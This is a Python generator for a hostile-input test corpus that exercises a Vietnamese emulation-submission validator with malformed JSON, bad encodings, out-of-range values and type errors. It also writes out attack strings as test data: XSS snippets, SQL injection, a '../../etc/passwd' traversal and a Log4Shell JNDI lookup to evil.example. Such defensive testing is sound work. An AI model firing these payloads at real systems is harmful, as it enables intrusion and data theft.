#!/usr/bin/env python3
"""Writes corpus.jsonl, the hostile-input corpus of HostileCorpusTest (see README.md for the format).

Deterministic: `python3 generate_corpus.py > corpus.jsonl` reproduces the committed file byte for byte.
Expected reason codes follow contracts.md ("Submission", "Which reason") and the choices written in the Javadoc
of SubmissionValidator and RecordReader (duplicate keys, NaN, nesting over 64 and numbers over 100 characters are
MALFORMED_JSON; numbers over 10^15 or with more than 12 decimals are INVALID_VALUE; an empty submissionId is SCHEMA,
other empty identifiers INVALID_VALUE; an escaped lone surrogate is MALFORMED_JSON like its raw UTF-8 bytes).
"""
import base64
import copy
import json
import sys
import unicodedata

MIB = 1_048_576
ENTRIES = []
COUNTER = {"h": 0, "ok": 0}


def next_id(kind):
    COUNTER[kind] += 1
    return "%s-%03d" % (kind, COUNTER[kind])


def base(sid=None, unit="SO-KHDT", period="2023"):
    """A complete, valid submission; every invalid record is a mutation of it (result indexes: KT1=0, KT2=1,
    KT3=2, XH1=3, XH2=4, TH1=5, TR1=6)."""
    return {
        "submissionId": sid or next_id("h"),
        "unitCode": unit,
        "period": period,
        "submittedAt": "2024-01-12T09:30:00+07:00",
        "members": {"total": 84, "women": 61},
        "results": [
            {"criterion": "KT1", "target": 12.0, "actual": 14.8},
            {"criterion": "KT2", "target": 5, "actual": 4},
            {"criterion": "KT3", "actual": 10},
            {"criterion": "XH1", "actual": True},
            {"criterion": "XH2", "actual": 3},
            {"criterion": "TH1", "actual": 1},
            {"criterion": "TR1", "actual": 0},
        ],
        "nominees": [{
            "staffCode": "NV-0042",
            "fullName": "Nguyễn Thị Hoa",
            "gender": "F",
            "rating": "XUAT_SAC",
            "grassrootsEmulationSoldier": True,
            "initiatives": [{"title": "Số hóa hồ sơ một cửa", "level": "PROVINCE"}],
        }],
    }


def text(obj):
    return json.dumps(obj, ensure_ascii=False)


def add(name, expect, value, codes=(), fields=None, key="SO-KHDT", **extra):
    """value: a JSON-able object (rendered compactly), a str (the record's exact text) or bytes."""
    if not isinstance(value, (str, bytes)):
        value = text(value)
    entry = {"name": name, "expect": expect, "codes": sorted(set(codes)), "key": key}
    if fields is not None:
        entry["fields"] = fields
    if isinstance(value, bytes):
        try:
            value.decode("utf-8")
            raise AssertionError(name + ": bytes that are valid UTF-8 must be given as text")
        except UnicodeDecodeError:
            entry["valueBase64"] = base64.b64encode(value).decode("ascii")
    else:
        entry["value"] = value
    entry.update(extra)
    assert name not in {e["name"] for e in ENTRIES}, name
    ENTRIES.append(entry)


NO_UNIT = object()


def reject(name, codes, fields, value, key="SO-KHDT", unit=NO_UNIT):
    """unit: when given, the rejection's expected unitCode (None for null)."""
    add(name, "REJECT", value, codes, fields, key, **({} if unit is NO_UNIT else {"unitCode": unit}))


def mutated(change, **base_args):
    b = base(**base_args)
    change(b)
    return b


def malformed(name, value, key="SO-KHDT", unit=NO_UNIT):
    reject(name, ["MALFORMED_JSON"], [None], value, key, unit)


def raw(obj, placeholder, replacement):
    """obj rendered as JSON, with the JSON string "placeholder" (quotes included) replaced by raw text."""
    t = text(obj)
    assert t.count('"%s"' % placeholder) == 1, placeholder
    return t.replace('"%s"' % placeholder, replacement)


def inside(obj, placeholder, replacement):
    """obj rendered as JSON, with placeholder inside a JSON string replaced by raw text."""
    t = text(obj)
    assert t.count(placeholder) == 1, placeholder
    return t.replace(placeholder, replacement)


def nominee0(b):
    return b["nominees"][0]


def initiative0(b):
    return b["nominees"][0]["initiatives"][0]


# ---- malformed JSON ---------------------------------------------------------------------------------------
B = text(base())
malformed("truncated-half", B[:len(B) // 2])
malformed("truncated-last-brace", text(base())[:-1])
malformed("truncated-inside-string", text(base()).split("Nguyễn")[0] + "Nguy")
malformed("truncated-after-colon", text(base()).split('"period": ')[0] + '"period": ')
malformed("trailing-garbage-text", text(base()) + "garbage")
malformed("trailing-second-object", text(base()) + " {}")
malformed("trailing-closing-brace", text(base()) + "}")
malformed("trailing-comma-object", text(base())[:-1] + ",}")
malformed("trailing-comma-array", text(base()).replace('"actual": 0}]', '"actual": 0},]'))
malformed("single-quoted-everything", text(base()).replace('"', "'"))
malformed("single-quoted-key", text(base()).replace('"period"', "'period'"))
malformed("unquoted-keys", text(base()).replace('"period"', "period").replace('"unitCode"', "unitCode"))
malformed("block-comment", text(base()).replace('"period"', '/* kỳ thi đua */ "period"'))
malformed("line-comment", "// báo cáo năm 2023\n" + text(base()))
malformed("hash-comment", "# báo cáo\n" + text(base()))
malformed("missing-colon", text(base()).replace('"period": "2023"', '"period" "2023"'))
malformed("missing-comma", text(base()).replace('"period": "2023", ', '"period": "2023" '))
malformed("unterminated-string", text(base()).replace('"Nguyễn Thị Hoa"', '"Nguyễn Thị Hoa'))
malformed("bad-escape", text(base()).replace("Nguyễn Thị Hoa", "Nguyễn \\x41 Hoa"))
malformed("short-unicode-escape", text(base()).replace("Nguyễn Thị Hoa", "Nguyễn \\u00 Hoa"))
malformed("capitalised-true", text(base()).replace('"actual": true', '"actual": True'))
malformed("undefined-literal", text(base()).replace('"actual": true', '"actual": undefined'))
malformed("nan-actual", raw(mutated(lambda b: b["results"][0].update(actual="@N@")), "@N@", "NaN"))
malformed("infinity-actual", raw(mutated(lambda b: b["results"][0].update(actual="@N@")), "@N@", "Infinity"))
malformed("minus-infinity-actual", raw(mutated(lambda b: b["results"][0].update(actual="@N@")), "@N@", "-Infinity"))
malformed("plus-infinity-target", raw(mutated(lambda b: b["results"][0].update(target="@N@")), "@N@", "+Infinity"))
malformed("nan-members-total", raw(mutated(lambda b: b["members"].update(total="@N@")), "@N@", "NaN"))
malformed("nan-in-unknown-field", raw(mutated(lambda b: b.update(extra="@N@")), "@N@", "NaN"))
malformed("leading-zero-number", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", "010"))
malformed("plus-sign-number", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", "+10"))
malformed("leading-dot-number", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", ".5"))
malformed("trailing-dot-number", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", "5."))
malformed("hex-number", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", "0x10"))
malformed("exponent-beyond-bigdecimal", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@",
                                            "1e-2147483649"))
malformed("digits-400-in-actual", raw(mutated(lambda b: b["results"][2].update(actual="@N@")), "@N@", "9" * 400))
malformed("digits-400-in-unknown-field", raw(mutated(lambda b: b.update(extra="@N@")), "@N@", "1" * 400))
malformed("digits-101-in-target", raw(mutated(lambda b: b["results"][0].update(target="@N@")), "@N@", "1" * 101))
malformed("duplicate-key-top-level", text(base()).replace('"period": "2023"', '"period": "2023", "period": "2022"'))
malformed("duplicate-key-same-value", text(base()).replace('"unitCode": "SO-KHDT"',
                                                           '"unitCode": "SO-KHDT", "unitCode": "SO-KHDT"'))
malformed("duplicate-key-in-nominee", text(base()).replace('"gender": "F"', '"gender": "F", "gender": "M"'))
malformed("duplicate-key-in-unknown-object", raw(mutated(lambda b: b.update(extra="@N@")), "@N@",
                                                 '{"a": 1, "a": 2}'))
malformed("deep-nesting-in-results", raw(mutated(lambda b: b.update(results="@N@")), "@N@",
                                         "[" * 1000 + "]" * 1000))
malformed("deep-nesting-in-members", raw(mutated(lambda b: b.update(members="@N@")), "@N@",
                                         '{"total": ' * 200 + "1" + "}" * 200))
malformed("deep-nesting-in-unknown-field", raw(mutated(lambda b: b.update(extra="@N@")), "@N@",
                                               '{"a": ' * 100 + "1" + "}" * 100))
malformed("nesting-65-in-unknown-field", raw(mutated(lambda b: b.update(extra="@N@")), "@N@", "[" * 64 + "]" * 64))
malformed("empty-value", "")
malformed("whitespace-only", " \r\n\t ")
malformed("bare-word", "submission")
malformed("raw-lf-in-unknown-field", inside(mutated(lambda b: b.update(note="a@C@b")), "@C@", "\n"))
malformed("utf8-bom-before-object", "\ufeff" + text(base()))

# ---- wrong encodings -----------------------------------------------------------------------------------------
ascii_base = mutated(lambda b: (nominee0(b).update(fullName="Lê Hoà Thành"),
                                initiative0(b).update(title="Cai tien quy trinh")))
latin1 = text(ascii_base).encode("latin-1")
malformed("latin1-encoded", latin1)
malformed("cp1258-encoded", text(mutated(lambda b: (nominee0(b).update(fullName="Lê Văn Đưc"),
                                                     initiative0(b).update(title="Cai tien")))).encode("cp1258"))
malformed("utf16-be-with-bom", b"\xfe\xff" + text(base()).encode("utf-16-be"))
malformed("utf16-le-with-bom", b"\xff\xfe" + text(base()).encode("utf-16-le"))
malformed("utf16-le-without-bom", text(base()).encode("utf-16-le"))
malformed("utf32-be", text(base()).encode("utf-32-be"))


def bytes_in_name(name, bad):
    b = base()
    nominee0(b)["fullName"] = "Nguyễn @B@ Hoa"
    before, after = text(b).encode("utf-8").split(b"@B@")
    malformed(name, before + bad + after)


bytes_in_name("invalid-continuation-c3-28", b"\xc3\x28")
bytes_in_name("lone-continuation-byte", b"\x80")
bytes_in_name("truncated-3-byte-sequence", b"\xe1\xbb")
bytes_in_name("byte-ff", b"\xff")
bytes_in_name("byte-fe", b"\xfe")
bytes_in_name("five-byte-form", b"\xf8\x88\x80\x80\x80")
bytes_in_name("above-u10ffff", b"\xf4\x90\x80\x80")
bytes_in_name("overlong-slash-2-bytes", b"\xc0\xaf")
bytes_in_name("overlong-slash-3-bytes", b"\xe0\x80\xaf")
bytes_in_name("overlong-slash-4-bytes", b"\xf0\x80\x80\xaf")
bytes_in_name("overlong-nul-modified-utf8", b"\xc0\x80")
bytes_in_name("overlong-c1-bf", b"\xc1\xbf")
bytes_in_name("cesu8-lone-high-surrogate", b"\xed\xa0\x80")
bytes_in_name("cesu8-surrogate-pair", b"\xed\xa0\xbd\xed\xb8\x80")
u = text(mutated(lambda b: b.update(extra="x@B@x"))).encode("utf-8").split(b"@B@")
malformed("invalid-byte-in-unknown-field", u[0] + b"\xff" + u[1])
malformed("invalid-utf8-cut-mid-character", text(base()).encode("utf-8").split("ễ".encode("utf-8"))[0] + b"\xe1\xbb")


def escaped_in(name, setter, escape):
    b = base()
    setter(b, "@E@")
    malformed(name, inside(b, "@E@", escape))


escaped_in("escaped-lone-high-surrogate-fullname", lambda b, v: nominee0(b).update(fullName="Nguyễn " + v),
           "\\ud800")
escaped_in("escaped-lone-low-surrogate-title", lambda b, v: initiative0(b).update(title=v + " Sáng kiến"), "\\udc00")
escaped_in("escaped-reversed-surrogate-pair", lambda b, v: nominee0(b).update(fullName=v), "\\ude00\\ud83d")
escaped_in("escaped-high-surrogate-at-end", lambda b, v: nominee0(b).update(staffCode="NV-" + v), "\\ud83d")
escaped_in("escaped-lone-surrogate-unit-code", lambda b, v: b.update(unitCode=v), "\\ud800")
escaped_in("escaped-lone-surrogate-unknown-field", lambda b, v: b.update(extra=v), "\\udfff")
b = base()
b["@K@"] = 1
malformed("escaped-lone-surrogate-in-key", inside(b, "@K@", "\\ud800"))

# ---- not an object ---------------------------------------------------------------------------------------------
for name, value in [("array-empty", "[]"), ("array-of-submission", "[" + text(base()) + "]"),
                    ("string", '"SO-KHDT"'), ("json-in-a-string", json.dumps(text(base()))), ("number", "42"),
                    ("huge-number", "1e400"), ("negative-zero", "-0"), ("true", "true"), ("false", "false"),
                    ("null", "null")]:
    reject("not-object-" + name, ["SCHEMA"], [None], value)

# ---- huge and over-precise numbers (INVALID_VALUE at the field) ---------------------------------------------------
for name, path, idx, fld, number in [
        ("actual-1e400", "results[0].actual", 0, "actual", "1e400"),
        ("actual-minus-1e400", "results[2].actual", 2, "actual", "-1e400"),
        ("target-1e400", "results[0].target", 0, "target", "1e400"),
        ("actual-10-pow-16", "results[2].actual", 2, "actual", "10000000000000000"),
        ("actual-1e16", "results[2].actual", 2, "actual", "1e16"),
        ("actual-10-pow-15-plus-1", "results[2].actual", 2, "actual", "1000000000000001"),
        ("count-1e400", "results[4].actual", 4, "actual", "1E+400"),
        ("actual-1e-300", "results[2].actual", 2, "actual", "1e-300"),
        ("target-1e-300", "results[0].target", 0, "target", "1e-300"),
        ("actual-13-decimals", "results[0].actual", 0, "actual", "0.0000000000001"),
        ("actual-100-digits", "results[2].actual", 2, "actual", "9" * 100),
        ("actual-exponent-999999999", "results[2].actual", 2, "actual", "1e999999999")]:
    reject("number-" + name, ["INVALID_VALUE"], [path],
           raw(mutated(lambda b: b["results"][idx].update({fld: "@N@"})), "@N@", number))
for name, fld, number in [("total-1e400", "total", "1e400"), ("women-1e-300", "women", "1e-300"),
                          ("total-3-billion", "total", "3000000000")]:
    reject("number-members-" + name, ["INVALID_VALUE"], ["members." + fld],
           raw(mutated(lambda b: b["members"].update({fld: "@N@"})), "@N@", number))

# ---- targets, counts, pass/fail and members out of their domain (INVALID_VALUE) ------------------------------------
for name, idx, fld, value in [
        ("target-zero", 0, "target", 0), ("target-negative", 0, "target", -12), ("target-minus-zero", 0, "target", -0.0),
        ("target-lower-zero", 1, "target", 0), ("target-lower-negative", 1, "target", -5),
        ("actual-negative", 0, "actual", -0.5), ("relative-negative", 2, "actual", -1),
        ("target-lower-actual-negative", 1, "actual", -4),
        ("count-negative", 4, "actual", -1), ("count-fraction", 4, "actual", 2.5),
        ("bonus-fraction", 5, "actual", 1.5), ("bonus-negative", 5, "actual", -1),
        ("penalty-negative", 6, "actual", -2), ("penalty-fraction", 6, "actual", 0.1),
        ("pass-fail-two", 3, "actual", 2), ("pass-fail-minus-one", 3, "actual", -1),
        ("pass-fail-half", 3, "actual", 0.5)]:
    reject("domain-" + name, ["INVALID_VALUE"], ["results[%d].%s" % (idx, fld)],
           mutated(lambda b: b["results"][idx].update({fld: value})))
for name, members, fields in [
        ("total-zero", {"total": 0, "women": 0}, ["members.total"]),
        ("total-negative", {"total": -5, "women": 0}, ["members.total"]),
        ("women-negative", {"total": 10, "women": -1}, ["members.women"]),
        ("women-over-total", {"total": 43, "women": 44}, ["members.women"]),
        ("total-fraction", {"total": 10.5, "women": 3}, ["members.total"]),
        ("women-fraction", {"total": 10, "women": 2.5}, ["members.women"]),
        ("both-negative", {"total": -1, "women": -1}, ["members.total", "members.women"])]:
    reject("members-" + name, ["INVALID_VALUE"], fields, mutated(lambda b: b.update(members=members)))

# ---- wrong JSON types in every field (SCHEMA) ---------------------------------------------------------------------
TOP = lambda b: b
RES = lambda i: (lambda b: b["results"][i])
NOM = nominee0
INI = initiative0
WRONG_TYPES = [
    ("submissionId", TOP, "submissionId", [42, {}, ["h-1"], True]),
    ("unitCode", TOP, "unitCode", [17, [], {"code": "SO-KHDT"}, False]),
    ("period", TOP, "period", [2023, 2023.0, ["2023"], True]),
    ("submittedAt", TOP, "submittedAt", [1705026600, {}, []]),
    ("members", TOP, "members", ["84", 84, [84, 61], True]),
    ("members.total", lambda b: b["members"], "total", ["84", True, {}]),
    ("members.women", lambda b: b["members"], "women", ["61", [61]]),
    ("results", TOP, "results", ["KT1", {"criterion": "KT1"}, 5, True]),
    ("results[0].criterion", RES(0), "criterion", [1, ["KT1"], {}, True]),
    ("results[0].target", RES(0), "target", ["12", True, [12], {}]),
    ("results[0].actual", RES(0), "actual", ["14.8", [14.8], {}, True]),
    ("results[3].actual", RES(3), "actual", ["true", "1", []]),
    ("results[4].actual", RES(4), "actual", [True, "3"]),
    ("results[5].actual", RES(5), "actual", ["1"]),
    ("results[6].actual", RES(6), "actual", [False]),
    ("nominees", TOP, "nominees", ["x", {}, 1]),
    ("nominees[0].staffCode", NOM, "staffCode", [42, ["NV"]]),
    ("nominees[0].fullName", NOM, "fullName", [1, {"ho": "Nguyễn"}, False]),
    ("nominees[0].gender", NOM, "gender", [1, True, ["F"]]),
    ("nominees[0].rating", NOM, "rating", [5, {}]),
    ("nominees[0].grassrootsEmulationSoldier", NOM, "grassrootsEmulationSoldier", ["yes", 1, "true", [True]]),
    ("nominees[0].initiatives", NOM, "initiatives", ["x", {}, 7]),
    ("nominees[0].initiatives[0].title", INI, "title", [7, ["x"]]),
    ("nominees[0].initiatives[0].level", INI, "level", [1, True]),
]
for path, where, fld, values in WRONG_TYPES:
    for i, value in enumerate(values):
        reject("type-%s-%d" % (path, i), ["SCHEMA"], [path], mutated(lambda b: where(b).update({fld: value})))
for i, value in enumerate([5, "KT1", None, []]):
    reject("type-results[0]-%d" % i, ["SCHEMA"], ["results[0]"],
           mutated(lambda b: b["results"].__setitem__(0, value)))
for i, value in enumerate(["NV-0042", None, []]):
    reject("type-nominees[0]-%d" % i, ["SCHEMA"], ["nominees[0]"],
           mutated(lambda b: b["nominees"].__setitem__(0, value)))
for i, value in enumerate(["Số hóa", None, 1]):
    reject("type-initiatives[0]-%d" % i, ["SCHEMA"], ["nominees[0].initiatives[0]"],
           mutated(lambda b: nominee0(b)["initiatives"].__setitem__(0, value)))

# ---- nulls and missing required fields (SCHEMA) -----------------------------------------------------------------------
for path, where, fld in [("submissionId", TOP, "submissionId"), ("unitCode", TOP, "unitCode"),
                         ("period", TOP, "period"), ("submittedAt", TOP, "submittedAt"),
                         ("members.total", lambda b: b["members"], "total"),
                         ("members.women", lambda b: b["members"], "women"),
                         ("results[0].criterion", RES(0), "criterion"), ("results[0].target", RES(0), "target"),
                         ("results[0].actual", RES(0), "actual"), ("results[3].actual", RES(3), "actual"),
                         ("nominees[0].staffCode", NOM, "staffCode"), ("nominees[0].fullName", NOM, "fullName"),
                         ("nominees[0].gender", NOM, "gender"), ("nominees[0].rating", NOM, "rating"),
                         ("nominees[0].grassrootsEmulationSoldier", NOM, "grassrootsEmulationSoldier"),
                         ("nominees[0].initiatives[0].title", INI, "title"),
                         ("nominees[0].initiatives[0].level", INI, "level")]:
    reject("null-" + path, ["SCHEMA"], [path], mutated(lambda b: where(b).update({fld: None})))
    reject("missing-" + path, ["SCHEMA"], [path], mutated(lambda b: where(b).pop(fld)))
reject("null-results-and-nominees", ["SCHEMA"], ["results"],
       mutated(lambda b: b.update(results=None, nominees=None)))
reject("empty-results-and-nominees", ["SCHEMA"], ["results"], mutated(lambda b: b.update(results=[], nominees=[])))
reject("missing-results-and-nominees", ["SCHEMA"], ["results"],
       mutated(lambda b: (b.pop("results"), b.pop("nominees"))))
reject("empty-object", ["SCHEMA"], ["submissionId", "unitCode", "period", "submittedAt", "results"], "{}")
reject("empty-result-entry", ["SCHEMA"], ["results[0].criterion", "results[0].actual"],
       mutated(lambda b: b["results"].__setitem__(0, {})))
reject("empty-nominee", ["SCHEMA"], ["nominees[0].staffCode", "nominees[0].fullName", "nominees[0].gender",
                                      "nominees[0].rating", "nominees[0].grassrootsEmulationSoldier"],
       mutated(lambda b: b["nominees"].__setitem__(0, {})))
reject("empty-initiative", ["SCHEMA"], ["nominees[0].initiatives[0].title", "nominees[0].initiatives[0].level"],
       mutated(lambda b: nominee0(b)["initiatives"].__setitem__(0, {})))

# ---- empty strings ----------------------------------------------------------------------------------------------------
for path, where, fld, code in [("submissionId", TOP, "submissionId", "SCHEMA"), ("unitCode", TOP, "unitCode", "INVALID_VALUE"),
                               ("period", TOP, "period", "SCHEMA"), ("submittedAt", TOP, "submittedAt", "SCHEMA"),
                               ("results[0].criterion", RES(0), "criterion", "INVALID_VALUE"),
                               ("nominees[0].staffCode", NOM, "staffCode", "INVALID_VALUE"),
                               ("nominees[0].fullName", NOM, "fullName", "INVALID_VALUE"),
                               ("nominees[0].gender", NOM, "gender", "INVALID_VALUE"),
                               ("nominees[0].rating", NOM, "rating", "INVALID_VALUE"),
                               ("nominees[0].initiatives[0].title", INI, "title", "INVALID_VALUE"),
                               ("nominees[0].initiatives[0].level", INI, "level", "INVALID_VALUE")]:
    reject("empty-string-" + path, [code], [path], mutated(lambda b: where(b).update({fld: ""})))

# ---- malformed formats (SCHEMA) and unknown enumeration values (INVALID_VALUE) -------------------------------------------
for i, sid in enumerate(["a b", "mã-đơn-vị", "x" * 65, "a/b", "<script>alert(1)</script>", "../../etc/passwd",
                         "h-1;DROP TABLE submission", "１２３"]):
    reject("format-submissionId-%d" % i, ["SCHEMA"], ["submissionId"], mutated(lambda b: b.update(submissionId=sid)))
for i, period in enumerate(["23", "20234", "２０２３", "٢٠٢٣", "2023 ", "2k23", "-023"]):
    reject("format-period-%d" % i, ["SCHEMA"], ["period"], mutated(lambda b: b.update(period=period)))
for i, at in enumerate(["2024-01-12T09:30:00", "2024-01-12", "2024-02-30T09:30:00+07:00",
                        "2024-01-12T09:30:00+25:00", "hôm qua", "1705026600", "2024-01-12 09:30:00+07:00"]):
    reject("format-submittedAt-%d" % i, ["SCHEMA"], ["submittedAt"], mutated(lambda b: b.update(submittedAt=at)))
for path, where, fld, values in [("nominees[0].gender", NOM, "gender", ["X", "f", "Nữ", "FEMALE", "<script>"]),
                                 ("nominees[0].rating", NOM, "rating", ["GIOI", "xuat_sac", "XUAT SAC"]),
                                 ("nominees[0].initiatives[0].level", INI, "level", ["NATIONAL", "province"])]:
    for i, value in enumerate(values):
        reject("enum-%s-%d" % (path, i), ["INVALID_VALUE"], [path], mutated(lambda b: where(b).update({fld: value})))

# ---- control characters in every known string field ----------------------------------------------------------------
CONTROL_FIELDS = [("submissionId", TOP, "submissionId"), ("unitCode", TOP, "unitCode"), ("period", TOP, "period"),
                  ("submittedAt", TOP, "submittedAt"), ("results[0].criterion", RES(0), "criterion"),
                  ("nominees[0].staffCode", NOM, "staffCode"), ("nominees[0].fullName", NOM, "fullName"),
                  ("nominees[0].gender", NOM, "gender"), ("nominees[0].rating", NOM, "rating"),
                  ("nominees[0].initiatives[0].title", INI, "title"),
                  ("nominees[0].initiatives[0].level", INI, "level")]
# escaped in the JSON string (valid JSON): INVALID_VALUE at the field
ESCAPED = [("escaped-crlf", lambda v: v + "\r\n"), ("escaped-lf-inside", lambda v: v[:1] + "\n" + v[1:]),
           ("escaped-nul", lambda v: v + "\x00"), ("escaped-tab", lambda v: "\t" + v),
           ("escaped-esc", lambda v: v + "\x1b"), ("raw-del", lambda v: v + "\x7f")]
# raw in the JSON string (not JSON at all): MALFORMED_JSON
RAW = [("raw-lf", "\n"), ("raw-cr", "\r"), ("raw-tab", "\t"), ("raw-nul", "\x00")]
for path, where, fld in CONTROL_FIELDS:
    for kind, change in ESCAPED:
        reject("control-%s-%s" % (kind, path), ["INVALID_VALUE"], [path],
               mutated(lambda b: where(b).update({fld: change(where(b)[fld])})))
    reject("control-escaped-del-%s" % path, ["INVALID_VALUE"], [path],
           inside(mutated(lambda b: where(b).update({fld: where(b)[fld] + "@C@"})), "@C@", "\\u007f"))
    for kind, char in RAW:
        malformed("control-%s-%s" % (kind, path),
                  inside(mutated(lambda b: where(b).update({fld: where(b)[fld] + "@C@"})), "@C@", char))

# ---- what stands for the unit in the rejection: the unitCode, else the key, if fit (1-64 characters, no control) --
reject("unit-code-with-nul-key-stands-in", ["INVALID_VALUE"], ["unitCode"],
       mutated(lambda b: b.update(unitCode="SO-KHDT\x00")), key="SO-TC", unit="SO-TC")
reject("unit-code-65-chars-key-stands-in", ["UNKNOWN_UNIT"], ["unitCode"],
       mutated(lambda b: b.update(unitCode="U" * 65)), key="SO-TC", unit="SO-TC")
reject("unit-code-64-chars-kept", ["UNKNOWN_UNIT"], ["unitCode"],
       mutated(lambda b: b.update(unitCode="U" * 64)), key="SO-TC", unit="U" * 64)
malformed("nul-in-key", "{", key="SO-KHDT\x00", unit=None)
malformed("crlf-in-key", "{", key="SO-KHDT\r\n", unit=None)
malformed("key-of-1000-chars", "{", key="K" * 1000, unit=None)
malformed("no-key", "{", key=None, unit=None)
reject("staff-code-65-chars", ["INVALID_VALUE"], ["nominees[0].staffCode"],
       mutated(lambda b: nominee0(b).update(staffCode="S" * 65)))
reject("staff-code-33-emoji", ["INVALID_VALUE"], ["nominees[0].staffCode"],
       mutated(lambda b: nominee0(b).update(staffCode="😀" * 33)))
reject("staff-code-2000-chars", ["INVALID_VALUE"], ["nominees[0].staffCode"],
       mutated(lambda b: nominee0(b).update(staffCode="NV" * 1000)))

# ---- repetitions -------------------------------------------------------------------------------------------------------
reject("duplicate-criterion", ["DUPLICATE_CRITERION"], ["results[1].criterion"],
       mutated(lambda b: b["results"][1].update(criterion="KT1")))
reject("duplicate-criterion-three-times", ["DUPLICATE_CRITERION"], ["results[4].criterion", "results[5].criterion"],
       mutated(lambda b: (b["results"][4].update(criterion="XH1", actual=True), b["results"][5].update(criterion="XH1"))))
reject("duplicate-unknown-criterion", ["DUPLICATE_CRITERION", "UNKNOWN_CRITERION"], ["results[5].criterion",
                                                                                      "results[6].criterion"],
       mutated(lambda b: (b["results"][5].update(criterion="ZZ9"), b["results"][6].update(criterion="ZZ9"))))
reject("duplicate-criterion-200-times", ["DUPLICATE_CRITERION"], None,
       mutated(lambda b: b.update(results=[{"criterion": "KT3", "actual": i} for i in range(200)])))
reject("repeated-staff-code", ["INVALID_VALUE"], ["nominees[1].staffCode"],
       mutated(lambda b: b["nominees"].append(dict(copy.deepcopy(nominee0(b)), fullName="Trần Văn Nam", gender="M"))))
reject("repeated-staff-code-500-times", ["INVALID_VALUE"], None,
       mutated(lambda b: b.update(nominees=[{"staffCode": "NV-1", "fullName": "A", "gender": "F", "rating": "TOT",
                                             "grassrootsEmulationSoldier": True} for _ in range(500)])))
reject("empty-criterion-1000-times", ["INVALID_VALUE"], None,
       mutated(lambda b: b.update(results=[{"criterion": "", "actual": 1} for _ in range(1000)])))

# ---- unknown unit, period, criterion -----------------------------------------------------------------------------------
for i, unit in enumerate(["SO-XX", "so-khdt", " SO-KHDT", "SO-KHDT\u00a0", "SO\u2010KHDT", "\u0421O-KHDT",
                          "SO-KHDT\u200b", "SO-NV", "<script>alert(1)</script>", "'; DROP TABLE rejection;--"]):
    reject("unknown-unit-%d" % i, ["UNKNOWN_UNIT"], ["unitCode"], mutated(lambda b: b.update(unitCode=unit)),
           unit=unit)
for i, period in enumerate(["2030", "1999", "0000", "9999", "2020"]):
    reject("unknown-period-%d" % i, ["UNKNOWN_PERIOD"], ["period"], mutated(lambda b: b.update(period=period)))
reject("unknown-unit-and-period", ["UNKNOWN_PERIOD", "UNKNOWN_UNIT"], ["period", "unitCode"],
       mutated(lambda b: b.update(unitCode="SO-XX", period="2030")))
for i, crit in enumerate(["TH9", "kt1", "KT1 ", "KT1\u200b", "<img src=x onerror=alert(1)>", "KT-1"]):
    reject("unknown-criterion-%d" % i, ["UNKNOWN_CRITERION"], ["results[5].criterion"],
           mutated(lambda b: b["results"][5].update(criterion=crit)))


def several_faults(b):
    b["submittedAt"] = "2024-01-12 09:30"
    b["members"]["women"] = 85
    b["results"][0]["target"] = 0
    b["results"][1]["criterion"] = "KT1"
    b["results"][2]["criterion"] = "TH9"
    nominee0(b).update(gender="X", grassrootsEmulationSoldier="yes")


reject("several-faults", ["SCHEMA", "INVALID_VALUE", "DUPLICATE_CRITERION", "UNKNOWN_CRITERION"],
       ["submittedAt", "members.women", "results[0].target", "results[1].criterion", "results[2].criterion",
        "nominees[0].gender", "nominees[0].grassrootsEmulationSoldier"], mutated(several_faults))

# ---- too large (generated by the test: padToBytes) ---------------------------------------------------------------------
add("too-large-valid-json", "REJECT", text(mutated(lambda b: b.update(padding="@PAD@"))), ["TOO_LARGE"], [None],
    padToBytes=MIB + 1, pad="x")
add("too-large-broken-json", "REJECT", "[@PAD@", ["TOO_LARGE"], [None], padToBytes=MIB + 1, pad="[")
add("too-large-3-mib-vietnamese", "REJECT", text(mutated(lambda b: nominee0(b).update(fullName="@PAD@"))),
    ["TOO_LARGE"], [None], padToBytes=3 * MIB, pad="Nguyễn Thị Hoa ")
add("long-unknown-unit-code", "REJECT", text(mutated(lambda b: b.update(unitCode="@PAD@"))), ["UNKNOWN_UNIT"],
    ["unitCode"], unitCode="SO-KHDT", padToBytes=1_000_000, pad="SO-KHDT")


# ---- valid but hostile: accepted ---------------------------------------------------------------------------------------
UNITS = ["SO-KHDT", "SO-TC", "SO-CT", "UBND-PL", "UBND-BL", "UBND-LN"]
PERIODS = ["2021", "2022", "2023"]


def nominee(n, full_name="Nguyễn Thị Hoa", title="Số hóa hồ sơ một cửa", staff=None):
    return {"staffCode": staff or "HS-%03d-%d" % (COUNTER["ok"], n), "fullName": full_name, "gender": "F",
            "rating": "TOT", "grassrootsEmulationSoldier": False,
            "initiatives": [{"title": title, "level": "GRASSROOTS"}]}


def ok_record(full_name="Nguyễn Thị Hoa", title="Số hóa hồ sơ một cửa", staff=None):
    """A nominee-only submission (it changes no score) of the next unit and period in turn."""
    sid = next_id("ok")
    n = COUNTER["ok"]
    return {"submissionId": sid, "unitCode": UNITS[n % len(UNITS)], "period": PERIODS[n % len(PERIODS)],
            "submittedAt": "2024-01-12T09:30:00+07:00", "nominees": [nominee(0, full_name, title, staff)]}


def accept(name, value, key=None, **extra):
    if not isinstance(value, str):
        key = key or value["unitCode"]
        value = text(value)
    add(name, "ACCEPT", value, key=key, **extra)


accept("script-in-full-name", ok_record("<script>alert(1)</script>"))
accept("img-onerror-in-full-name", ok_record("<img src=x onerror=alert(1)>"))
accept("svg-onload-in-full-name", ok_record("\"><svg onload=alert(1)>"))
accept("script-in-title", ok_record(title="<script>alert(1)</script>"))
accept("img-onerror-in-title", ok_record(title="<img src=x onerror=alert(1)>"))
accept("svg-onload-in-title", ok_record(title="\"><svg onload=alert(1)>"))
accept("script-breakout-and-iframe", ok_record("</script><script>alert(1)</script>",
                                               "<iframe src=javascript:alert(1)></iframe>"))
accept("sql-drop-table", ok_record("Robert'); DROP TABLE submission;--"))
accept("sql-or-1-equals-1", ok_record("' OR '1'='1", "'; DELETE FROM nominee WHERE '1'='1"))
accept("sql-union", ok_record("Lê Văn Tám\" OR \"\"=\"", "1 UNION SELECT staff_code FROM nominee --"))
accept("log4shell-lookup", ok_record("${jndi:ldap://evil.example/a}", "${env:PATH} %s %n %x"))
